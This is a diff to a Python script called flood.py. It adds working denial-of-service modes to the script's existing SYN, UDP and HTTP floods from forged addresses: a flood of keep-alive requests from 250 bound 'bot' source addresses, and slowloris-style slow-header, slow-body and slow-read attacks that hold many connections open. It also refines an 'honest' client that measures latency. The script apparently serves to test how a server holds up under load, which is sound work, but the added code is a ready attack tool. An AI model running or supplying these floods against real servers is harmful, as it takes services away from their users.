@@ -5,6 +5,9 @@ flood.py honest ADDRESS PORT HOST RATE SECONDS   open loop: a page on a new conn
                                                  Prints "ASKED ANSWERED P50_MS P99_MS"
 flood.py syn|udp ADDRESS PORT RATE SECONDS       packets from forged addresses, none twice soon
 flood.py http ADDRESS PORT HOST RATE SECONDS     requests from four addresses, answers unread
+flood.py requests ADDRESS PORT HOST SOURCES EACH SECONDS   from so many addresses, so many connections each, the next request as soon as one is answered
+flood.py header|body|read ADDRESS PORT HOST SOURCES HELD SECONDS   slow ones, from so many addresses: so many connections are held, whatever the other side
+                                                 does about it; a header, a form or an answer goes on by a few bytes every four seconds
 """
 import asyncio, random, socket, struct, sys, time
 
@@ -30,9 +33,9 @@ async def ask(source, address, port, host, done):
             w.write(b"GET /page.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\nConnection: close\r\n\r\n" % host.encode())
             answer = await r.read(-1)
             w.close()
-        done.append((time.monotonic() - began) * 1000 if answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"</html>\n") else None)
-    except (OSError, TimeoutError):
-        done.append(None)
+        done.append((time.monotonic() - began) * 1000 if answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"</html>\n") else answer[9:12].decode() or "cut")
+    except (OSError, TimeoutError) as e:
+        done.append(type(e).__name__)
 
 
 async def honest(address, port, host, rate, seconds):
@@ -41,7 +44,10 @@ async def honest(address, port, host, rate, seconds):
         await asyncio.sleep(max(0, start + n / rate - time.monotonic()))
         tasks.append(asyncio.create_task(ask(HONEST[n % len(HONEST)], address, port, host, done)))
     await asyncio.gather(*tasks)
-    good = sorted(x for x in done if x is not None)
+    good = sorted(x for x in done if not isinstance(x, str))
+    bad = [x for x in done if isinstance(x, str)]
+    if bad:
+        print("not answered:", {x: bad.count(x) for x in set(bad)}, file=sys.stderr)
     print(len(done), len(good), *(("%.0f" % good[int(len(good) * q)]) if good else "-" for q in (0.5, 0.99)))
 
 
@@ -93,10 +99,88 @@ def http(address, port, host, rate, seconds):
     print(paced(rate, seconds, step))
 
 
+def bots(n):
+    """The n-th of up to 250 addresses in ten networks."""
+    return "9.9.%d.%d" % (n % 10, 1 + n // 10 % 25)
+
+
+async def visitor(source, address, port, host, n, end, count):
+    while time.monotonic() < end:
+        try:
+            r, w = await asyncio.open_connection(address, port, local_addr=(source, 0))
+            while time.monotonic() < end:
+                w.write(b"GET /page.html?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n\r\n" % (n, host))
+                head = await r.readuntil(b"\r\n\r\n")
+                count[head[9:12]] = count.get(head[9:12], 0) + 1
+                await r.readexactly(int(head.lower().split(b"content-length: ")[1].split(b"\r")[0]))
+        except (OSError, EOFError, IndexError, ValueError, asyncio.LimitOverrunError):
+            count[b"broken"] = count.get(b"broken", 0) + 1
+            await asyncio.sleep(0.05)
+
+
+async def requests(address, port, host, sources, each, seconds):
+    end, count = time.monotonic() + seconds, {}
+    tasks = [asyncio.create_task(visitor(bots(n), address, port, host.encode(), n, end, count)) for n in range(sources) for _ in range(each)]
+    await asyncio.wait(tasks, timeout=seconds + 1)
+    print({k.decode(): v for k, v in count.items()})
+
+
+SLOW = {
+    "header": (b"GET /page.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n", b"X-A: b\r\n"),
+    "body": (b"POST /page.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: text/plain\r\nContent-Length: 90000\r\n\r\n", b"x"),
+    "read": (b"GET /large.html HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n\r\n", None),
+}
+
+
+def begin(kind, address, port, n):
+    s = socket.socket()
+    if kind == "read":
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
+    s.bind((bots(n), 0))
+    s.setblocking(False)
+    s.connect_ex((address, port))
+    return s
+
+
+def slow(kind, address, port, host, sources, held, seconds):
+    """Each connection falls due once a second: its head is sent at the first, then every fourth it goes on by a few bytes; one that the other side
+    has ended is begun anew."""
+    first, more = SLOW[kind]
+    first %= host.encode()
+    have = [(begin(kind, address, port, n % sources), 0) for n in range(held)]
+    begun = held
+
+    def step(k):
+        nonlocal begun
+        s, age = have[k % held]
+        try:
+            if age == 0:
+                s.send(first)
+            elif more and age % 4 == 0:
+                s.send(more)
+            age += 1
+            if (more or age % 4 == 0) and not s.recv(64):
+                raise OSError
+        except BlockingIOError:
+            pass
+        except OSError:
+            s.close()
+            s, age = begin(kind, address, port, k % held % sources), 0
+            begun += 1
+        have[k % held] = s, age
+
+    paced(held, seconds, step)
+    print("%d connections begun" % begun)
+
+
 def main():
     kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
     if kind == "honest":
         asyncio.run(honest(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6])))
+    elif kind == "requests":
+        asyncio.run(requests(address, port, sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7])))
+    elif kind in SLOW:
+        slow(kind, address, port, sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]))
     elif kind in ("syn", "udp"):
         forged(kind, address, port, float(sys.argv[4]), float(sys.argv[5]))
     else:
